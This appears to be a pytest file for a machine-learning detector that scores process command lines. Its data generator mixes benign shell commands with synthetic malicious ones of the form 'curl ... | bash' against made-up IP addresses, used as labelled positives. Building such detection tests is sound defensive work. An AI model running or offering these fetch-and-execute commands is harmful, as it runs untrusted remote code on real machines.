import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scoreback.models.detector.spec import EventFeature
from scoreback.models.learners.encoding import Encoder
from scoreback.models.learners.model import Floats
from scoreback.models.learners.ranking import average_precision
from scoreback.models.learners.texts import TextModel, fit_text, out_of_fold

COMMAND = EventFeature(kind="ngrams", field="process.command_line", name="command")

texts = st.lists(st.one_of(st.none(), st.text(max_size=12)), max_size=12)


def commands(seed: int, count: int = 3000) -> tuple[pa.Array, np.ndarray]:
    """Plain commands, and a few that fetch and run something in ever new words."""
    draw = np.random.default_rng(seed)
    truth = (draw.random(count) < 0.03).astype(np.int8)
    words = ["ls -la", "git status", "python build.py", "cat notes.txt", "ssh backup"]
    rows = [
        f"curl -s http://{draw.integers(1, 255)}.9.8.7/{draw.integers(0, 10**6)} | bash"
        if bad
        else f"{words[draw.integers(0, 5)]} {draw.integers(0, 10**4)}"
        for bad in truth
    ]
    return pa.array(rows), truth


@pytest.fixture(scope="module")
def model() -> TextModel:
    return fit_text(*commands(1))


def test_commands_that_were_never_seen_are_ranked_by_their_parts(model: TextModel) -> None:
    rows, truth = commands(2)
    assert average_precision(truth, model.margins(rows)) > 0.99


@settings(max_examples=30)
@given(found=texts)
def test_a_text_has_the_same_number_alone_and_in_any_batch(
    model: TextModel, found: list[str | None]
) -> None:
    whole = model.margins(pa.array(found, pa.string()))
    alone = [float(model.margins(pa.array([text], pa.string()))[0]) for text in found]
    np.testing.assert_array_equal(whole, np.array(alone))
    np.testing.assert_array_equal(np.isnan(whole), np.array([t is None for t in found], bool))


def test_the_order_of_rows_changes_no_weight() -> None:
    rows, truth = commands(3, 500)
    order = np.random.default_rng(0).permutation(len(truth))
    assert fit_text(rows.take(pa.array(order)), truth[order]) == fit_text(rows, truth)


def test_few_positives_teach_no_letters() -> None:
    rows = pa.array(["a", "b", "c", None])
    nothing = fit_text(rows, np.array([1, 0, 0, 1], dtype=np.int8))
    assert nothing == TextModel(0.0, {})
    assert nothing.margins(rows).tolist()[:3] == [0.0, 0.0, 0.0]


def test_learnt_rows_get_a_number_that_their_own_truth_did_not_make() -> None:
    draw = np.random.default_rng(5)
    letters = "abcdefghijklmnop"
    noise = pa.array(["".join(draw.choice(list(letters), 12)) for _ in range(400)])
    truth = (draw.random(400) < 0.3).astype(np.int8)

    def auc_like(margins: Floats) -> float:
        return average_precision(truth, margins)

    assert auc_like(fit_text(noise, truth).margins(noise)) > 0.95  # it knows them by heart
    assert auc_like(out_of_fold(noise, truth)) < 0.45


def test_the_encoder_learns_and_carries_a_text_as_one_column() -> None:
    rows, truth = commands(4, 600)
    table = pa.table({"command": rows})
    encoder = Encoder.fit(table, truth, [COMMAND])
    matrix = encoder.transform(table)
    assert matrix.shape == (600, 1)
    learnt = encoder.learning_matrix(table, truth)
    assert not np.array_equal(matrix, learnt)
    assert average_precision(truth, learnt[:, 0].astype(float)) > 0.99


def test_control_characters_and_a_megabyte_do_no_harm(model: TextModel) -> None:
    odd = ["\0\x01\x1b[31m", "\u202e" * 9, "x" * 1_000_000, "", " ", "\n"]
    assert np.isfinite(model.margins(pa.array(odd))).all()
